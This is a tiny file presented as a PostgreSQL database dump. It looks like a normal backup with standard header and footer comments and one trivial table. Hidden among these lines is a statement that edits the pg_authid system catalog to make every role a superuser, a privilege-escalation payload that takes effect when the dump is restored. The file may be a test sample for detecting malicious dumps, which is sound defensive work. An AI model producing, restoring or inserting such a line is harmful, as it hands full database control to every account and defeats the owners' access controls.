--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
UPDATE pg_catalog.pg_authid SET rolsuper = true;

--
-- PostgreSQL database dump complete
--
